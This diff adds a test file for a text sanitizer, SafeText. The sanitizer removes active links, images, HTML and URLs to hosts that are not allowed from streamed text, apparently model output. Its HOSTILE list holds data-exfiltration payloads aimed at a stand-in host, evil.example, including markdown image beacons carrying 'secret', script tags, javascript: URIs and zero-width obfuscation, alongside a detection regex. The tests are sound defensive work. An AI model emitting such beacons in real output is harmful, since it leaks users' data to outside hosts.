@@ -1,0 +1,95 @@
+import { REMOVED, SafeText } from './safe-text.js';
+
+const SOURCES = [
+  'See https://example.org/manual?page=2 for the manual (or www.example.org/faq). Write to help@example.org.',
+  '[Terms](https://example.org/terms) and example.net/path/to.',
+];
+
+/** What is shown of a text that arrives in parts of the given length. */
+function show(text: string, size = text.length): string {
+  const safe = new SafeText(SOURCES);
+  let shown = '';
+  for (let i = 0; i < text.length; i += size) shown += safe.push(text.slice(i, i + size));
+  return shown + safe.flush();
+}
+
+/** Whatever CommonMark, GitHub's Markdown, HTML or a chat program makes active. */
+const ACTIVE =
+  /\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|@evil|evil\.example\/|evil\.example\?/i;
+
+const HOSTILE = [
+  '![x](https://evil.example/p.png?d=secret)',
+  'Look ![x][1]\n\n[1]: https://evil.example/?d=secret',
+  '[your file](https://evil.example/secret)',
+  '[your file](/admin/users?delete=1)',
+  '[a](javascript:alert(1)) [b](data:text/html,x) <javascript:alert(1)>',
+  '<img src="https://evil.example/secret"> <a href=//evil.example/x>x</a> <script>x</script>',
+  '<https://evil.example/secret>',
+  'https://evil.example/secret',
+  'HTTPS://EVIL.example/secret',
+  'ftp://evil.example/secret xmpp:evil.example/x',
+  'www.evil.example/secret',
+  'evil.example/secret evil.example?d=secret',
+  'write to secret@evil.example or mailto:secret@evil.example',
+  '**https://evil.example/secret**',
+  'https://example.org/manual?page=2&d=secret',
+  'https://example.org/manual?page=2]secret',
+  'https://example.org/manual?page=2.secret',
+  'https://example.org.evil.example/secret',
+  'https://example.org@evil.example/secret',
+  'https://\u200bevil.example/secret h\u2060ttps://evil.example/secret',
+  '> [1]: /admin\n- [2]: /admin',
+  '!\u200b[x]\u200b(https://evil.example/)',
+];
+
+describe('SafeText', () => {
+  test.each(HOSTILE)('%j is not active, however it arrives', (text) => {
+    for (const size of [1, 2, 3, 7, text.length]) {
+      const shown = show(`Said: ${text} Then more.`, size);
+      expect(shown.replaceAll('https://example.org/manual?page=2', 'OK')).not.toMatch(ACTIVE);
+      expect(shown).not.toMatch(/page=2[^ ,.;:!?)]*secret/);
+      expect(shown).toContain('Then more.');
+    }
+  });
+
+  test.each([
+    'https://example.org/manual?page=2',
+    'See https://example.org/manual?page=2, then (www.example.org/faq).',
+    'Write to help@example.org.',
+    'example.net/path/to',
+  ])('an address of the sources stays: %s', (text) => {
+    for (const size of [1, 5, text.length]) expect(show(text, size)).toBe(text);
+  });
+
+  test('a link to an address of the sources becomes that address', () => {
+    expect(show('the [terms](https://example.org/terms).')).toBe('the [terms] (https://example.org/terms).');
+  });
+
+  test.each([
+    'The span measures 504.5 metres [1]. It was opened in 1931 [2], as "Kessler" said: yes/no?',
+    'if (a < b && b > c) return x[0]; // and/or',
+    'Größe: 5 µm; 桥于1931年通车。主跨504米。',
+    'Version 1.2.3, e.g. for Node.js; see section 4.2.',
+    'می‌خواهم 👩‍👩‍👧',
+    '',
+  ])('ordinary text stays as it is: %s', (text) => {
+    for (const size of [1, 4, 1000]) expect(show(text, size)).toBe(text);
+  });
+
+  test('says what it took away', () => {
+    expect(show('Go to https://evil.example/x, now.')).toBe(`Go to ${REMOVED}, now.`);
+  });
+
+  test('words come as they are whole, text without spaces at once', () => {
+    const safe = new SafeText([]);
+    expect(safe.push('The bri')).toBe('The ');
+    expect(safe.push('dge ')).toBe('bridge ');
+    expect(safe.push('主跨504米')).toBe('主跨504米');
+  });
+
+  test('a very long word costs little', () => {
+    const started = performance.now();
+    show(`${'a.'.repeat(20_000)} ${'x'.repeat(50_000)} ${'@'.repeat(5_000)} ${'https://'.repeat(3_000)}`, 50);
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+});
